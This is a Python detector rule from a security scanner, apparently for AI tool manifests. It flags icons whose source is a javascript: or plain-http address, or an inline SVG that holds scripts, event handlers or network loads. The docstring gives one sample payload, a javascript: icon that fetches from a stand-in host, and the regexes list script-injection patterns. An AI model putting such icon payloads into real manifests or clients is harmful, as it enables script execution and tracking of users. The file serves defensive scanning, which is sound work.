"""Icons that can run a script, leak that they were shown, or read local files.

**What.** An icon whose source is a `javascript:`, `file:` or other scheme than https and data, an
unencrypted address, or an inline SVG image with a script, an event handler or a reference to the
network in it.

**Why.** A client draws icons before anything is approved. An SVG image is a program; an address of
somebody else's reports who looked and when.

**Example.** `"icons": [{"src": "javascript:fetch('//drop.test')"}]`

**Reported with less weight.** A drawing that only refers to the network, or holds a page, as drawing programs
write them.

**Left alone.** A picture over https; an inline picture (`data:image/png;base64,...`); an inline SVG image
that only draws.
"""

from __future__ import annotations

import base64
import binascii
import re
from collections.abc import Iterator
from urllib.parse import unquote

from douane.detectors._definitions import MAX_TEXT, passages
from douane.model import Confidence, Severity, Surface
from douane.rules import Evidence, Rule

_SCHEME = re.compile(r"\s*([a-z][a-z0-9+.-]{0,20}):", re.IGNORECASE)
_RUNS = re.compile(
    r"<\s?(?:script|iframe|embed|object|handler)\b|\son[a-z]{3,20}\s?=|(?:xlink:)?href\s?=\s?[\"']?\s?(?:javascript|data:text)",
    re.IGNORECASE,
)
# What drawing programs write into their files, too.
_LOADS = re.compile(
    r"<\s?foreignobject\b|(?:xlink:)?href\s?=\s?[\"']?\s?https?|@import|url\(\s?[\"']?https?:|<!entity",
    re.IGNORECASE,
)


def detect(surface: Surface) -> Iterator[Evidence]:
    """Yield one evidence for each icon that is more than a picture."""
    for passage in passages(surface):
        if passage.kind != "icon" or not passage.pointer.endswith("/src"):
            continue
        found = _judge(passage.text)
        if found is not None:
            severity, why = found
            yield Evidence(where=passage.where, excerpt=passage.text, why=why, severity=severity)


def _judge(source: str) -> tuple[Severity, str] | None:
    match = _SCHEME.match(source)
    scheme = match.group(1).lower() if match else ""
    if scheme == "https":
        return None
    if scheme == "data":
        return _inline(source)
    if scheme == "http":
        return (
            Severity.MEDIUM,
            "The icon is loaded without encryption, so that anybody on the way can replace it.",
        )
    if scheme in ("javascript", "vbscript"):
        return Severity.HIGH, "The icon is a script."
    return (
        Severity.MEDIUM,
        f"The source of the icon is neither https nor inline data but {scheme or 'relative'}.",
    )


def _inline(source: str) -> tuple[Severity, str] | None:
    head, _, body = source[:MAX_TEXT].partition(",")
    if "svg" not in head and "html" not in head and "xml" not in head:
        return None
    text = unquote(body)
    if head.rstrip().lower().endswith(";base64"):
        try:
            text = base64.b64decode("".join(text.split()), validate=True).decode("utf-8", "replace")
        except (binascii.Error, ValueError):
            return Severity.MEDIUM, "The inline image says that it is encoded, and cannot be decoded."
    if _RUNS.search(text):
        return Severity.HIGH, "The inline image is a program: it holds a script."
    if _LOADS.search(text):
        return Severity.MEDIUM, "The inline image loads from the network, or holds a page."
    return None


RULE = Rule(
    id="scriptable-icon",
    summary="an icon can run a script or is loaded from an unsafe place",
    severity=Severity.MEDIUM,
    confidence=Confidence.HIGH,
    row="supply.tools",
    remedy="Use a client that does not draw icons of servers, or ask for a plain picture over https.",
    taxonomy=("MCP03:2025", "SAFE-T1406", "AML.T0110"),
    definitions=detect,
)
